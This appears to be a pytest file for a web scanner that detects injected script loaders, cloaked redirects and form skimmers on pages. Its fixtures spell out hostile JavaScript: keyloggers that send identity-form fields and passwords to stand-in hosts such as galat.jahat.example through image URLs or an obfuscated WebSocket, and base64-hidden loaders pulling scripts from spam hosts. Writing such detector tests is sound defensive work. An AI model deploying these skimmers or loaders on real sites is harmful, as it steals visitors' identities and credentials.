"""Addresses that a page keeps for its scripts, and scripts that listen to each key."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome
from tests.checks.content.reading import b64
from tests.checks.content.scripting import LOGIN, in_file, on_page

LOADS = (
    "var i=document.getElementById('lg'),s=i.dataset,e=document.createElement('script');"
    "e.src={};i.parentNode.appendChild(e)"
)
OPENS = "k.onclick=function(){{window.open({})}};"
ONCE = "if(!sessionStorage.p){sessionStorage.p=1;k.style.display='block'}"
AGENT = "if(!/bot|crawl/.test(navigator.userAgent)){{{}}}"


@pytest.mark.parametrize(
    ("source", "message"),
    [
        (AGENT.format(LOADS.format("window.atob(s.a+s.b+s.c)")), "kept"),
        # Whole, and not for robots: managers of consent do so as well; so do links, once.
        (AGENT.format(LOADS.format("atob(i.getAttribute('data-k'))")), "look"),
        (ONCE + OPENS.format("window.atob(k.dataset.t)"), "look"),
        # For everybody it is odd, and links that are kept from robots are opened so.
        (LOADS.format("atob(s.a)"), "look"),
        (OPENS.format("atob(k.dataset.t)"), "clean"),
        (AGENT.format(LOADS.format("s.a")), "clean"),
        (ONCE + OPENS.format("k.dataset.t"), "clean"),
    ],
)
def test_addresses_that_are_decoded_from_the_page(source: str, message: str) -> None:
    assert on_page(source, "").message == message


SETTINGS = b64('{"tema":"jdih","versi":"2.1","cdn":"https://cdn.temaku.example/v2","menu":true}')
TRADE = b64('{"tema":"jdih","versi":"2.1","cdn":"https://slotgacor88.example/v2"}')
MADE = "var s=document.createElement('script');s.src={};document.head.appendChild(s)"


@pytest.mark.parametrize(
    ("source", "message"),
    [
        (f"var o=JSON.parse(atob('{SETTINGS}'));" + MADE.format("o.cdn+'/a.js'"), "look"),
        (f"var o=JSON.parse(atob('{TRADE}'));" + MADE.format("o.cdn+'/a.js'"), "loader"),
        (MADE.format(f"atob('{b64('https://cdn.temaku.example/a.js')}')"), "loader"),
        (
            f"if(/google/.test(document.referrer)){{var o=JSON.parse(atob('{SETTINGS}'));"
            + MADE.format("o.cdn+'/a.js'")
            + "}",
            "loader",
        ),
    ],
)
def test_settings_of_a_theme_are_no_address_in_disguise(source: str, message: str) -> None:
    assert on_page(source, "").message == message


RESIDENT = (
    "<form id=m action=/m method=post><label>NIK<input name=nik></label><label>Nomor KK<input "
    "name=kk></label><label>Nama ibu<input name=ibu></label><input type=file name=ktp></form>"
)
LISTENS = (
    "var f=document.getElementById('m'),g={{}};[].forEach.call(f.elements,function(el){{"
    "el.addEventListener('keyup',function(){{g[el.name]=el.value}});el.addEventListener('blur',"
    "function(){{new Image().src='https://{}/p.gif?h='+encodeURIComponent(g[el.name])}})}})"
)
SOCKET = (
    "var s=new WebSocket(['wss:/','/kanal','.jahat','.exa','mple/','v1'].join(''));"
    "['nama','sandi'].forEach(function(i){var e=document.getElementById(i);e.addEventListener("
    "'input',function(){s.send(JSON.stringify({k:i,n:e.value}))})})"
)


def test_each_key_of_somebodys_identity_in_the_address_of_a_picture() -> None:
    assert on_page(LISTENS.format("galat.jahat.example"), RESIDENT).message == "skimmer"
    assert on_page(LISTENS.format("www.contohkab.go.id"), RESIDENT).outcome is Outcome.PASS


def test_each_letter_of_a_password_over_a_line_in_disguise() -> None:
    assert in_file(SOCKET, LOGIN).message == "skimmer"
    assert on_page(SOCKET, LOGIN).message == "skimmer"
    # A chat has no password beside it, and its line is open to see.
    assert on_page(SOCKET, "<input id=nama><input id=sandi>").message != "skimmer"
    open_line = SOCKET.replace(
        "['wss:/','/kanal','.jahat','.exa','mple/','v1'].join('')", "'/obrolan'"
    )
    assert on_page(open_line, LOGIN).outcome is Outcome.PASS


GUARD = (
    "var s=document.createElement('script');s.src=atob('{0}');document.head.appendChild(s);"
    "if({2})location.href=atob('{1}');"
)
NEWS = b64("https://cdn.temaku.example/kabar.js")


@pytest.mark.parametrize(
    ("to", "test", "message"),
    [
        # A theme that guards its maker's name, and whoever moves to somebody else, or by visitor.
        ("https://temaku.example/lisensi", "!document.getElementById('kredit')", "look"),
        # Who sells it may be somebody else than who serves it.
        ("https://jahat.example/x", "!document.getElementById('kredit')", "look"),
        ("https://temaku.example/lisensi", "/google/.test(document.referrer)", "visitors"),
        ("https://temaku.example/lisensi", "Math.random()<0.5", "visitors"),
    ],
)
def test_a_theme_that_guards_its_makers_name(to: str, test: str, message: str) -> None:
    assert on_page(GUARD.format(NEWS, b64(to), test), "").message == message
